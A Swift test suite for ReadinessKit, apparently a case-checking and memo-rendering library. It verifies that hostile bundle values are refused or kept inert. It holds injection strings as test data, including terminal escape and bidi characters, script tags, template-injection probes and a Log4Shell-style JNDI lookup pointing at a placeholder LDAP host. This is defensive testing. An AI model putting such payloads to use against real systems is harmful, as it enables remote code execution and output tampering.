import Foundation
import Testing
@testable import ReadinessKit

/// Hostile values in otherwise well-formed bundles: impossible dates and numbers are refused at
/// their field; control characters, HTML, script, template and formula syntax are kept as inert
/// data, never interpreted, and never reach a terminal raw.
@Suite("Hostile values") struct ValueHostileTests {
    static let asOf = Day(year: 2026, month: 6, day: 1) ?? Day(daysSinceEpoch: 0)

    func located(_ outcome: LoadOutcome) -> [String] {
        outcome.errors.map { "\($0.id)@\($0.location.map { "\($0.line):\($0.column)" } ?? "-")" }
    }

    /// Checks `bundle` against the echo pack, whose messages quote bundle values.
    func echoReport(_ bundle: CaseBundle) throws -> Report {
        let packs = try RulePackLoader().load([Hostile.fixture("rules/echo.yaml")])
        return try CaseChecker(checklist: try ChecklistCompiler.compile(packs)).check(bundle, options: .init(asOf: Self.asOf))
    }

    @Test("impossible and out-of-range dates (0000-00-00, 2026-02-30, year 99999, hour 24, second 60, offset +15:00) are refused at their field")
    func datesOutOfRange() throws {
        let outcome = try #require(Hostile.load(Hostile.fixture("dates-out-of-range")))
        #expect(outcome.bundle == nil)
        #expect(located(outcome) == [
            "bundle.invalid-date@7:23", "bundle.invalid-date@8:14", "bundle.invalid-date@9:14", "bundle.invalid-date@10:17",
            "bundle.invalid-date@11:26", "bundle.invalid-date@12:18", "bundle.invalid-date@14:29", "bundle.invalid-date@15:29",
            "bundle.invalid-date@16:29", "bundle.invalid-date@19:70", "bundle.invalid-date@19:106",
        ])
        // A quoted date is still a date (line 17 loads), and nothing is silently clamped or rolled over.
        #expect(!outcome.diagnostics.contains { $0.location?.line == 17 })
    }

    @Test("integers beyond 64 bits, hex, underscores, infinity and fractions in integer fields are refused at their field")
    func numbersOutOfRange() throws {
        let outcome = try #require(Hostile.load(Hostile.fixture("numbers-out-of-range")))
        #expect(located(outcome) == [
            "bundle.wrong-type@7:20", "bundle.wrong-type@9:54", "bundle.wrong-type@10:54", "bundle.wrong-type@11:54",
            "bundle.wrong-type@12:54", "bundle.wrong-type@13:54", "bundle.wrong-type@14:60",
        ])
    }

    @Test("date arithmetic at the edges of the calendar gives values or errors, never a trap")
    func calendarEdges() {
        for text in ["0001-01-01", "9999-12-31", "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00-14:00", "2024-02-29"] {
            if case .invalid(let reason) = TemporalParser.parse(text) { Issue.record("'\(text)' should parse: \(reason)") }
        }
        for text in ["99999-01-01", "-001-01-01", "+2026-01-01", "2026-1-1", "２０２６-01-01", "2026-01-01T10:00:00.Z", "2026-01-01T10:00Z junk"] {
            guard case .invalid = TemporalParser.parse(text) else {
                Issue.record("'\(text)' should be refused")
                continue
            }
        }
        #expect(Day(year: 10_000, month: 1, day: 1) == nil)
        #expect(Day(year: 0, month: 1, day: 1) == nil)
    }

    @Test("control characters and bidi overrides in values load as data, and never reach a terminal raw")
    func controlCharacters() throws {
        let outcome = try #require(Hostile.load(Hostile.fixture("control-chars")))
        let bundle = try #require(outcome.bundle)
        let caption = try #require(bundle.caseRecord["caption"]?.stringValue)
        #expect(caption.unicodeScalars.contains("\u{1B}"), "the value itself is kept as written")
        let memo = try MemoRenderer.render(try echoReport(bundle), as: .text, templateDirectory: Repository.path("templates"))
        #expect(!memo.unicodeScalars.contains(where: TerminalText.isUnsafe), "the text memo replaces control and bidi characters")
        #expect(memo.contains("Hostile"))
        #expect(TerminalText.sanitized(memo) == memo, "nothing is left for the terminal guard to change")
    }

    @Test("JSON output escapes every control and bidi character, and still decodes to the same values")
    func jsonEscapesControls() throws {
        let value = ["caption": "a\u{1B}[2J b\u{9B}1m c\u{202E}d e\u{7F} f\u{0}"]
        let json = MemoRenderer.json(value)
        #expect(!json.unicodeScalars.contains(where: TerminalText.isUnsafe))
        // So the CLI writes JSON bytes as they are, without the terminal guard.
        #expect(TerminalText.sanitized(json) == json)
        #expect(MemoRenderer.jsonBytes(value) == Data(json.utf8))
        let decoded = try JSONDecoder().decode([String: String].self, from: Data(json.utf8))
        #expect(decoded == value)
    }

    @Test("the html-everywhere fixture is exactly what the generator writes, so it covers every text field of the schema")
    func htmlFixtureIsCurrent() throws {
        let committed = try String(contentsOfFile: Hostile.fixture("html-everywhere/case.yaml"), encoding: .utf8)
        #expect(committed == HostileBundleGenerator.yaml(),
                "regenerate: RECORD_HOSTILE=1 swift test --filter htmlFixtureIsCurrent")
        if committed != HostileBundleGenerator.yaml(), ProcessInfo.processInfo.environment["RECORD_HOSTILE"] == "1" {
            try HostileBundleGenerator.yaml().write(toFile: Hostile.fixture("html-everywhere/case.yaml"), atomically: true, encoding: .utf8)
        }
    }

    @Test("HTML and script in every text field load as data, byte for byte (escaping is each output's job)")
    func htmlEverywhereLoadsVerbatim() throws {
        let outcome = try #require(Hostile.load(Hostile.fixture("html-everywhere")))
        let bundle = try #require(outcome.bundle, "\(outcome.problems)")
        #expect(outcome.errors.isEmpty)
        var texts: [String] = []
        func collect(_ value: Value) {
            switch value {
            case .string(let text): texts.append(text)
            case .list(let values): values.forEach(collect)
            case .record(let record): record.fields.forEach(collect)
            default: break
            }
        }
        collect(.record(bundle.root))
        let payloads = texts.filter { $0.contains("<script>") }
        #expect(payloads.count == HostileBundleGenerator.textFieldPaths())
        #expect(bundle.caseRecord["caption"]?.stringValue == HostileBundleGenerator.payload("case.caption"))
    }

    @Test("template syntax in bundle values ({{…}}, {expr}, ${…}, %s) is never evaluated: messages quote it literally")
    func templateSyntaxIsNeverEvaluated() throws {
        let outcome = try #require(Hostile.load(Hostile.fixture("template-syntax-in-values")))
        let bundle = try #require(outcome.bundle, "\(outcome.problems)")
        let report = try echoReport(bundle)
        let item = try #require(report.results.first { $0.rule == "HX-01" }?.findings.first)
        let caption = "{{#case}}{{{caption}}}{{/case}} {{> memo}} {{=<% %>=}}<%caption%>"
        let summary = "{case.caption} {{item.id}} ${jndi:ldap://example.invalid/a} %s%n%x%p {{7*7}} #{7*7} <%= 7*7 %>"
        #expect(item.message == "Item {case.id}: {{> partial}} {item.notes} / \(caption) / \(summary)")
        #expect(item.remediation == "Check {case.id} ((not recorded)).")
        #expect(!item.message.contains("49"), "no template arithmetic ran")
        let caseFinding = try #require(report.results.first { $0.rule == "HX-02" }?.findings.first)
        #expect(caseFinding.message == "Case H-1: \(caption) / (not recorded) / \(summary)")
    }
}
